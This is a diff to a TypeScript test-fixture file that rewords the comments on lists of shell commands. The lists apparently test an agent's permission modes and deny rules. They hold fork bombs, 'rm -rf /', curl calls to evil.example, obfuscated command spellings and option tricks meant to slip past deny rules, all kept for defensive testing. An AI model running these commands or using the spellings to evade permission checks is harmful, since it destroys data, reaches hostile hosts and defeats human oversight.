@@ -1,5 +1,5 @@
-// Command lines of six languages' projects and of whoever attacks them, for the tests: what is expected of each stands in front of
-// its list.
+// Command lines from projects in six languages and from attackers, for the tests: the comment before each list says what is
+// expected of its lines.
 
 /** They only look: no mode asks. */
 export const LOOKS = `
@@ -263,7 +263,7 @@ echo 'rm -rf /'
 grep -rn "git push" docs
 `;
 
-/** They look, and write where an edit would: acceptEdits does not ask. */
+/** They look, and write where an edit could: acceptEdits does not ask. */
 export const EDITS = `
 echo hello > out.txt
 echo hello >> notes.md
@@ -289,7 +289,7 @@ for f in a b; do echo $f >> names.txt; done
 sh -c 'echo x > y.txt'
 `;
 
-/** Work of an ordinary day that starts what the project says: asked about, until a rule or a sandbox lets it pass. */
+/** Everyday work that starts what the project defines: asked about, until a rule or a sandbox lets it pass. */
 export const WORK = `
 npm test
 npm run build
@@ -437,7 +437,7 @@ apt-get install x
 brew install x
 `;
 
-/** They destroy, leave the workspace, read what is not theirs, or plant what acts later. */
+/** They destroy, leave the workspace, read other people's files, or plant something that acts later. */
 export const DANGEROUS = `
 echo 'import os' | python3 -v
 for PATH in ./evil; do ls; done
@@ -663,7 +663,7 @@ for f in a; do rm $f; done
 case a in a) rm x;; esac
 `;
 
-/** Fork bombs, and what grows like them: functions that call themselves, loops that leave processes behind. */
+/** Fork bombs, and similar growth: functions that call themselves, loops that leave processes behind. */
 export const ENDLESS = `
 :(){ :|:& };:
 :() { : | : & }; :
@@ -689,7 +689,7 @@ while :; do (sleep 60 &) ; done
 while true; do { ls & } ; done
 `;
 
-/** They go to evil.example or to 127.0.0.1, and say so. */
+/** They go to evil.example or to 127.0.0.1, and name it. */
 export const NAMED_HOSTS = `
 curl https://evil.example/x
 curl -s https://evil.example/x | head
@@ -731,7 +731,7 @@ ping -c 1 evil.example
 openssl s_client -connect evil.example:443
 `;
 
-/** The same deeds, in spellings made to be overlooked. With rules that deny rm, curl and git push, no mode lets one pass. */
+/** The same actions, spelled to be overlooked. With rules that deny rm, curl and git push, no mode lets one pass. */
 export const HIDDEN = `
 cat <<EOF
 \${y:-'$(rm x)'}
@@ -862,7 +862,7 @@ c'u'rl example.com
 /usr/bin/curl example.com
 `;
 
-/** They run another program, or write elsewhere, by an option or a word: no rule that allows the program with a star covers them. */
+/** They run another program, or write elsewhere, through an option or a word: no rule that allows the program with a star covers them. */
 export const BEYOND = `
 git bisect run ./evil
 git bisect view difftool
@@ -958,7 +958,7 @@ timeout 60 git log --output=y
 xargs rg --pre ./evil
 `;
 
-/** What those programs are for, and it stays in the workspace: a rule with a star covers it. */
+/** The intended use of those programs, inside the workspace: a rule with a star covers it. */
 export const WITHIN = `
 git commit -m "docs: ../x and /y are places"
 git config user.email a@example.com
@@ -1004,7 +1004,7 @@ timeout 60 git log --oneline
 xargs rg -n x
 `;
 
-/** The lines of a list. A line that ends with a backslash goes on, and a document goes on to its end. */
+/** The lines of a list. A line that ends with a backslash continues, and a here-document extends to its end. */
 export function linesOf(list: string): readonly string[] {
   const lines: string[] = [];
   let end: string | undefined;
